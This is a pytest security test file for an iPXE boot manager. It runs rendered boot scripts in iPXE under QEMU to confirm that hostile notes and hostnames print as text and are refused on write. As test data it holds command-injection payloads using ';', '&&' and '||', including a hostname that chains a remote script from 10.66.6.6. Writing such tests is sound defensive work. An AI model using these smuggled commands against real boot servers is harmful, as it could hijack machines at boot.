"""Hostile values in real iPXE (F4): rendered scripts run in iPXE firmware under QEMU.

iPXE reads the words `;`, `&&` and `||` as command separators, so a note, a hostname or a
hardware fact holding ` ; echo INJECTED-RAN ; ` once ran as commands when the operator chose
"show this host". Here the real app renders the scripts a host gets for hostile values, and
Debian's iPXE (`ipxe.lkrn`, booted by QEMU with the script as its initrd, which iPXE runs)
executes them: the payload must be printed as text, never run. A control script shows that the
harness does see an injection when there is one.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import time
from pathlib import Path
from urllib.parse import quote

import pytest

from hps_api.errors import InvalidInput
from hps_api.store import FileStore, RecordId

pytestmark = pytest.mark.slow

IPXE_LKRN = Path("/usr/lib/ipxe/ipxe.lkrn")
QEMU = "qemu-system-x86_64"
URL = "/cgi-bin/boot_manager.sh"
IPXE = {"User-Agent": "iPXE/1.21.1+ (g8ef5)"}
#: one payload per separator, each short enough that the console never wraps its line (a
#: wrapped line could put the payload's words alone on the next line, as if it had run)
PAYLOADS = {"NOTE3": "x ; echo INJECTED-RAN", "NOTE4": "y && echo INJECTED-RAN",
            "NOTE5": "z || echo INJECTED-RAN", "NOTE6": "w ; set injected yes"}
PAYLOAD = PAYLOADS["NOTE3"]
AUDIT_PAYLOAD = "v ; echo INJECTED-RAN"  # no `|`: that separates facts
HOSTILE_HOSTNAME = "n1 ; echo INJECTED-RAN ; chain http://10.66.6.6/x.ipxe ; echo"
RUN_TIMEOUT = 90.0
_ANSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|\x1b[=>]|\r")


def unavailable() -> str | None:
    if shutil.which(QEMU) is None or not IPXE_LKRN.exists():
        return ("iPXE INJECTION TIER NOT RUN: apt-get install qemu-system-x86 ipxe "
                "(scripts/test does)")
    return None


def run_in_ipxe(script: str, done: str, tmp_path: Path) -> list[str]:
    """Run `script` in iPXE firmware; return the console lines once `done` was printed."""
    reason = unavailable()
    if reason:
        pytest.skip(reason)
    script_file, log = tmp_path / "script.ipxe", tmp_path / "serial.log"
    script_file.write_text(script)
    vm = subprocess.Popen([QEMU, "-accel", "tcg", "-m", "128", "-nographic", "-monitor", "none",
                           "-serial", f"file:{log}", "-no-reboot", "-nic", "none",
                           "-kernel", str(IPXE_LKRN), "-initrd", str(script_file)],
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + RUN_TIMEOUT
        while time.monotonic() < deadline:
            text = _ANSI.sub("", log.read_text(errors="replace")) if log.exists() else ""
            if done in text:
                time.sleep(0.5)  # let the lines after the marker arrive
                return _ANSI.sub("", log.read_text(errors="replace")).splitlines()
            if vm.poll() is not None:
                break
            time.sleep(0.2)
        pytest.fail(f"iPXE never printed {done!r}:\n{log.read_text(errors='replace')[-2000:]}")
    finally:
        vm.kill()
        vm.wait(timeout=10)


def ran(lines: list[str]) -> bool:
    """Return True when a payload command ran: its output stands alone on a line."""
    return any(line.strip() == "INJECTED-RAN" for line in lines)


@pytest.fixture
def hostile(web, store: FileStore, host: RecordId, tmp_path: Path) -> RecordId:
    """The host of `web` (10.99.0.21) with a hostile note and hardware fact of its own."""
    (tmp_path / "arp").write_text(
        "IP address       HW type     Flags       HW address            Mask     Device\n"
        "10.99.0.21       0x1         0x2         52:54:00:aa:bb:01     *        br0\n")
    for key, payload in PAYLOADS.items():
        web.get(f"{URL}?cmd=host_variable&name={key}&value={quote(payload)}",
                headers={"User-Agent": "curl/8.5.0"})
    web.get(f"{URL}?cmd=host_audit&data={quote(quote('vendor=' + AUDIT_PAYLOAD, safe=''))}",
            headers=IPXE)
    assert store.items(host)["HW_VENDOR"] == AUDIT_PAYLOAD
    return host


def test_the_harness_sees_an_injection_when_there_is_one(tmp_path: Path) -> None:
    lines = run_in_ipxe("#!ipxe\necho x ; echo INJECTED-RAN\nset hps_reply w ; set injected yes\n"
                        "echo CHECK-${injected}-END\n", "-END", tmp_path)
    assert ran(lines) and "CHECK-yes-END" in lines


def test_show_this_host_prints_hostile_values_as_text(web, hostile, tmp_path: Path) -> None:
    script = web.get(f"{URL}?cmd=process_menu_item&menu_item=show_host",
                     headers=IPXE).text
    assert "INJECTED-RAN" in script and script.startswith("#!ipxe")
    lines = run_in_ipxe(script, "Press any key", tmp_path)
    assert not ran(lines)
    assert any("echo INJECTED-RAN" in line for line in lines)  # shown, as text


@pytest.mark.parametrize("key", PAYLOADS)
def test_a_hostile_value_read_back_by_ipxe_is_only_text(web, hostile, tmp_path: Path,
                                                        key: str) -> None:
    script = web.get(f"{URL}?cmd=host_variable&name={key}", headers=IPXE).text
    assert script.startswith("#!ipxe\nset hps_reply ")
    lines = run_in_ipxe(script + "echo CHECK-${injected}-END\n", "-END", tmp_path)
    assert not ran(lines)
    assert "CHECK--END" in lines  # `set injected yes` never ran either


def test_a_hostile_hostname_in_the_record_does_not_run_in_the_menu(
        web, store: FileStore, hostile, tmp_path: Path) -> None:
    """A record edited by hand (the store refuses such a HOSTNAME for every writer)."""
    path = store.layout.path(hostile)
    path.write_text(path.read_text() + f"HOSTNAME={HOSTILE_HOSTNAME}\n")
    script = web.get(f"{URL}?cmd=init", headers=IPXE).text
    assert "menu hps-api: n1 , echo INJECTED-RAN , chain" in script
    lines = run_in_ipxe(script, "Choose within", tmp_path)
    assert not ran(lines)


@pytest.mark.parametrize("hostname", [HOSTILE_HOSTNAME, "sch 001!", "-sch", "a" * 64, "x;y"])
def test_a_hostname_that_is_no_dns_label_is_refused_on_every_write_path(
        store: FileStore, host: RecordId, cli, config_dir: Path, snapshot,
        hostname: str) -> None:
    before = snapshot(config_dir)
    with pytest.raises(InvalidInput, match="not a host name"):
        store.update(host, {"HOSTNAME": hostname}, "t")
    result = cli("host_config", "52:54:00:aa:bb:01", "set", "HOSTNAME", hostname)
    assert result.returncode == 2 and "not a host name" in result.stderr
    assert snapshot(config_dir) == before


def test_a_structured_value_with_a_separator_is_refused_not_rendered() -> None:
    from hps_api.render.ipxe import ipxe_value

    with pytest.raises(InvalidInput, match="separator"):
        ipxe_value("console=ttyS0 ; chain http://10.66.6.6/")
    assert ipxe_value("console=ttyS0,115200 quiet") == "console=ttyS0,115200 quiet"
